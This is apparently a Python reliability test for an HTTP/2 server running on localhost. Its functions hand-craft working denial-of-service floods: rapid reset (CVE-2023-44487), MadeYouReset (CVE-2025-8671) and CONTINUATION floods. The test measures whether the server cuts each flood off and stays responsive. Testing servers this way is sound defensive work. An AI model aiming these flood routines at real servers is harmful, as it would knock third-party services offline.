"""HTTP/2 (h2c, prior knowledge) against a separate brisk process (`reliability-server`).

  1. h2load: 20,000 GET /json over h2c, all must succeed;
  2. floods, each on its own connection, while a probe client (another process, its own h2
     connection, sequential GET /json) is timed before, during and after:
     - rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL), new stream ids, repeatedly;
     - "MadeYouReset" (CVE-2025-8671): HEADERS then a WINDOW_UPDATE that overflows the stream's
       window, which makes the *server* reset it (FLOW_CONTROL_ERROR), repeatedly;
     - CONTINUATION flood (CVE-2024-27316 style): one HEADERS without END_HEADERS, then endless
       CONTINUATION frames without END_HEADERS, full of header bytes;
     - the same with empty CONTINUATION frames (CPU rather than memory).
     Each must be cut off by the server (GOAWAY or the connection closed); recorded: frames sent
     before the cut-off was seen, time, the GOAWAY's code and last stream id, the server's RSS and
     CPU time before/after;
  3. h2load again: the server still serves.

Frames are written by hand (9-byte frame header + payload, RFC 9113 §4.1) with a stateless HPACK
block, and read back with hyperframe; the probe uses the h2 package. Run through
reliability/scripts/h2 (it makes reliability/.venv with requirements-h2.txt and installs h2load).
"""

import argparse
import multiprocessing
import os
import re
import select
import socket
import struct
import subprocess
import sys
import time

import h2.config
import h2.connection
import h2.events
from hyperframe.frame import Frame, GoAwayFrame

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rel  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
P99_LIMIT_MS = 50.0
ERROR_CODES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_no_index(name_index, value):
    """Literal header field without indexing, indexed name (RFC 7541 §6.2.2); no state."""
    return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value


def literal_new_name(name, value):
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


# GET /json, http, authority 127.0.0.1: the same bytes are valid for every stream.
REQUEST_BLOCK = b"\x82\x86" + literal_no_index(4, b"/json") + literal_no_index(1, b"127.0.0.1")


class Reader:
    """Reads and parses what the server sends; answers SETTINGS and PING; notes GOAWAY and EOF."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.frames = {}
        self.resets_from_server = 0
        self.reset_codes = {}

    def poll(self, timeout=0.0):
        while not self.closed:
            r, _, _ = select.select([self.sock], [], [], timeout)
            if not r:
                return
            timeout = 0.0
            try:
                data = self.sock.recv(1 << 20)
            except (ConnectionResetError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buf += data
            self._parse()

    def _parse(self):
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            body = memoryview(self.buf[9 : 9 + length])
            self.buf = self.buf[9 + length :]
            name = type(f).__name__
            self.frames[name] = self.frames.get(name, 0) + 1
            if isinstance(f, GoAwayFrame):
                f.parse_body(body)
                if self.goaway is None:
                    self.goaway = (f.error_code, f.last_stream_id, bytes(f.additional_data), time.monotonic())
            elif f.type == SETTINGS and not (f.flags and "ACK" in f.flags):
                self._send(frame(SETTINGS, ACK, 0))
            elif f.type == PING and not (f.flags and "ACK" in f.flags):
                self._send(frame(PING, ACK, 0, bytes(body)))
            elif f.type == RST_STREAM:
                self.resets_from_server += 1
                f.parse_body(body)
                self.reset_codes[f.error_code] = self.reset_codes.get(f.error_code, 0) + 1

    def _send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    @property
    def cut(self):
        return self.goaway is not None or self.closed


def connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    reader = Reader(s)
    reader.poll(0.5)
    return s, reader


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


# --- the probe: another client, its own connection, sequential GET /json --------------------


def probe_main(port, stop, out):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/json"), (":scheme", "http"), (":authority", "127.0.0.1")]
    samples, errors = [], []
    while not stop.is_set():
        t = time.monotonic()
        try:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            sock.sendall(conn.data_to_send())
            status, done = None, False
            sock.settimeout(5)
            while not done:
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("probe connection closed")
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = dict(event.headers).get(":status")
                    elif isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                        done = True
                    elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        raise ConnectionError(f"probe: {event}")
                sock.sendall(conn.data_to_send())
            if status != "200":
                errors.append((t, f"status {status}"))
            samples.append((t, time.monotonic() - t))
        except Exception as e:  # noqa: BLE001 - every failure is a finding
            errors.append((t, repr(e)))
            time.sleep(0.01)
        time.sleep(0.001)
    out.put((samples, errors))


def percentile(values, q):
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * q))] if values else float("nan")


def latency_line(samples):
    ms = [s[1] * 1000 for s in samples]
    if not ms:
        return "no samples"
    return f"n={len(ms)} p50 {percentile(ms, 0.5):.2f} ms, p99 {percentile(ms, 0.99):.2f} ms, max {max(ms):.2f} ms"


# --- floods ---------------------------------------------------------------------------------


def rapid_reset(port, deadline, careful=False, per_write=100, pause=0.0, made_you_reset=False):
    """HEADERS + RST_STREAM(CANCEL) (or + an overflowing WINDOW_UPDATE) for `per_write` new streams per write,
    `pause` s between writes, until the server cuts the connection off or `deadline`. `careful`
    waits 20 ms for an answer after each write, so that the GOAWAY is read before the server's
    close (with our unread frames in its buffer, a TCP reset) can discard it."""
    s, reader = connect(port)
    sent_streams, sent_frames, sent_bytes = 0, 0, 0
    t0 = time.monotonic()
    stream = 1
    while not reader.cut and time.monotonic() < deadline and stream < 2**31 - 2 * per_write:
        batch = bytearray()
        for _ in range(per_write):
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST_BLOCK)
            if made_you_reset:
                # The stream's send window is 65,535; adding 2^31-1 overflows it: a stream error
                # (FLOW_CONTROL_ERROR) that the server must answer with its own RST_STREAM.
                batch += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
            else:
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        try:
            s.sendall(batch)
        except OSError:
            reader.closed = True
            break
        sent_streams += per_write
        sent_frames += 2 * per_write
        sent_bytes += len(batch)
        reader.poll(max(pause, 0.02) if careful else pause)
    reader.poll(0.5)
    took = (reader.goaway[3] if reader.goaway else time.monotonic()) - t0
    s.close()
    return dict(
        streams=sent_streams, frames=sent_frames, bytes=sent_bytes, took=took, cut=reader.cut, goaway=reader.goaway,
        closed=reader.closed, server_frames=reader.frames, server_resets=reader.reset_codes,
    )


def continuation_flood(port, deadline, careful, payload_size):
    """One HEADERS (no END_HEADERS) then CONTINUATION frames (no END_HEADERS) until cut off."""
    s, reader = connect(port)
    field = literal_new_name(b"x-flood", b"a" * 1000)
    payload = (field * (payload_size // len(field) + 1))[:payload_size]
    sent_frames, sent_bytes = 0, 0
    t0 = time.monotonic()
    try:
        s.sendall(frame(HEADERS, END_STREAM, 1, REQUEST_BLOCK))
        sent_frames, sent_bytes = 1, 9 + len(REQUEST_BLOCK)
        while not reader.cut and time.monotonic() < deadline:
            data = frame(CONTINUATION, 0, 1, payload)
            s.sendall(data)
            sent_frames += 1
            sent_bytes += len(data)
            # Look for the answer after every frame: the count is what the server took before
            # it said stop (give or take what sits in the socket buffers).
            reader.poll(0.02 if careful else 0.0 if sent_frames % 16 else 0.001)
    except OSError:
        reader.closed = True
    reader.poll(0.5)
    took = (reader.goaway[3] if reader.goaway else time.monotonic()) - t0
    s.close()
    return dict(
        frames=sent_frames, bytes=sent_bytes, took=took, cut=reader.cut, goaway=reader.goaway, closed=reader.closed,
        server_frames=reader.frames,
    )


def describe_cut(r):
    if r["goaway"]:
        code, last, debug, _ = r["goaway"]
        return f"GOAWAY {ERROR_CODES.get(code, code)} (last stream {last}{', ' + repr(debug.decode(errors='replace')) if debug else ''})"
    if r["closed"]:
        return "connection closed without GOAWAY"
    return "NOT cut off"


def h2load(v, srv, n, what):
    cmd = ["h2load", "-n", str(n), "-c", "10", "-m", "10", f"{srv.base}/json"]
    out = subprocess.run(cmd, capture_output=True, text=True).stdout
    m = re.search(r"requests: (\d+) total, (\d+) started, (\d+) done, (\d+) succeeded, (\d+) failed, (\d+) errored, (\d+) timeout", out)
    codes = re.search(r"status codes: (\d+) 2xx, (\d+) 3xx, (\d+) 4xx, (\d+) 5xx", out)
    took = re.search(r"finished in ([\d.]+\w+), ([\d.]+) req/s", out)
    proto = re.search(r"Application protocol: (\S+)", out)
    detail = m.group(0) if m else out[-500:]
    if codes:
        detail += f"; {codes.group(0)}"
    if took:
        detail += f"; finished in {took.group(1)} ({float(took.group(2)):.0f} req/s)"
    if proto:
        detail += f"; protocol {proto.group(1)}"
    ok = bool(m and codes and proto) and int(m.group(4)) == n and int(codes.group(1)) == n and proto.group(1) == "h2c"
    v.check(ok, f"{what}: h2load {n} GET /json over h2c all succeeded", f"{' '.join(cmd)}: {detail}")


def run_flood(v, srv, name, one_connection, seconds, must_cut=True):
    """Floods for `seconds`: one connection after another (each until the server cuts it off),
    while the probe process times GET /json. Checks the cut-offs, the probe, memory. The first
    connection is `careful` (it waits for answers between writes: what the server took before
    the cut-off is then measured closely); the others go as fast as they can."""
    stop = multiprocessing.Event()
    out = multiprocessing.Queue()
    probe = multiprocessing.Process(target=probe_main, args=(srv.port, stop, out))
    probe.start()
    time.sleep(1.0)
    rss0, cpu0, load = srv.rss_kib(), cpu_seconds(srv.pid), rel.loadavg()
    start = time.monotonic()
    deadline = start + seconds
    runs = []
    # New connections until `seconds` have passed; the one in progress then may run 5 s more to
    # be cut off (a flood that is never cut off ends at the deadline).
    while time.monotonic() < deadline:
        runs.append(one_connection(deadline + 5 if must_cut else deadline, not runs))
        if not runs[-1]["cut"]:
            break
    end = time.monotonic()
    rss_peak = srv.rss_kib()
    time.sleep(1.0)
    rss1, cpu1 = srv.rss_kib(), cpu_seconds(srv.pid)
    stop.set()
    samples, errors = out.get(timeout=30)
    probe.join(timeout=10)
    before = [s for s in samples if s[0] < start]
    during = [s for s in samples if start <= s[0] < end]
    after = [s for s in samples if s[0] >= end]

    first = runs[0]
    sent = f"{first['frames']} frames ({first['bytes'] / 1e3:.1f} kB)" + (f", {first['streams']} streams" if "streams" in first else "")
    cut_runs = sum(1 for r in runs if r["cut"])
    total_frames = sum(r["frames"] for r in runs)
    total_streams = sum(r.get("streams", 0) for r in runs)
    first_detail = f"{describe_cut(first)} {first['took'] * 1000:.1f} ms after the first frame; sent before the cut-off was read: {sent}; server sent {first['server_frames']}"
    if first.get("server_resets"):
        first_detail += f", RST_STREAM codes {{{', '.join(f'{ERROR_CODES.get(k, k)}: {n}' for k, n in first['server_resets'].items())}}}"
    sustained = (
        f"{len(runs)} connections in {end - start:.1f} s, {cut_runs} cut off, {total_frames} frames"
        + (f", {total_streams} streams" if total_streams else "")
    )
    if must_cut:
        v.check(first["cut"], f"{name}: the first connection is cut off by the server", first_detail)
        v.check(cut_runs == len(runs), f"{name}: every connection of a {seconds:.0f} s sustained flood is cut off", sustained)
    else:
        v.info(f"{name}: first connection", first_detail)
        v.info(f"{name}: sustained", sustained)
    v.info(
        f"{name}: server",
        f"RSS {rss0 / 1024:.1f} MiB before, {rss_peak / 1024:.1f} at the end of the flood, {rss1 / 1024:.1f} 1 s later; "
        f"CPU {cpu1 - cpu0:.2f} s over {end - start:.1f} s of flood; load average {load}",
    )
    v.check(rss1 - rss0 < 64 * 1024, f"{name}: server RSS grew by less than 64 MiB", f"+{(rss1 - rss0) / 1024:.1f} MiB")
    v.info(f"{name}: probe GET /json", f"before {latency_line(before)}; during {latency_line(during)}; after {latency_line(after)}")
    v.check(not errors, f"{name}: the probe client saw no errors", f"{len(errors)} errors {errors[:3]}")
    p99 = percentile([s[1] * 1000 for s in during], 0.99)
    v.check(
        len(during) >= 10 and p99 < P99_LIMIT_MS,
        f"{name}: the probe was served during the flood with p99 < {P99_LIMIT_MS:.0f} ms",
        f"p99 {p99:.2f} ms over {len(during)} requests",
    )
    v.check(srv.alive(), f"{name}: the server process is alive", f"pid {srv.pid}")
    return runs


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--quick", action="store_true", help="2 s per flood instead of 10 s")
    args = ap.parse_args()
    limit = 2.0 if args.quick else 10.0
    v = rel.Verdicts("h2")
    t_start = time.monotonic()
    rel.log(f"== h2 ({'quick' if args.quick else 'full'}): {rel.machine()}")
    srv = rel.Server(name="h2")
    try:
        rel.log(f"server pid {srv.pid} on {srv.base}, WORKERS=2; idle RSS {srv.rss_kib() / 1024:.1f} MiB")
        h2load(v, srv, 20000, "before the floods")
        port = srv.port
        rel.log("\n== rapid reset: HEADERS + RST_STREAM(CANCEL), 100 streams per write, reconnecting after each cut-off")
        run_flood(v, srv, "rapid reset", lambda d, c: rapid_reset(port, d, c), limit)
        rel.log("\n== rapid reset, paced: 10 streams per write, 1 ms apart (stays under the pending-reset limit longer)")
        run_flood(v, srv, "rapid reset (paced)", lambda d, c: rapid_reset(port, d, per_write=10, pause=0.001), limit, must_cut=False)
        rel.log("\n== MadeYouReset: HEADERS + WINDOW_UPDATE(2^31-1), 100 streams per write (the server resets each stream)")
        run_flood(v, srv, "MadeYouReset", lambda d, c: rapid_reset(port, d, c, made_you_reset=True), limit)
        rel.log("\n== CONTINUATION flood: HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs without END_HEADERS")
        run_flood(v, srv, "CONTINUATION flood (16 KiB frames)", lambda d, c: continuation_flood(port, d, c, 16384), limit)
        rel.log("\n== CONTINUATION flood: empty CONTINUATION frames")
        run_flood(v, srv, "CONTINUATION flood (empty frames)", lambda d, c: continuation_flood(port, d, c, 0), limit)
        h2load(v, srv, 2000 if args.quick else 20000, "after the floods")
        v.info("server RSS at the end", f"{srv.rss_kib() / 1024:.1f} MiB")
    finally:
        srv.stop()
    rel.log(f"h2 took {time.monotonic() - t_start:.0f} s")
    return v.finish()


if __name__ == "__main__":
    sys.exit(main())
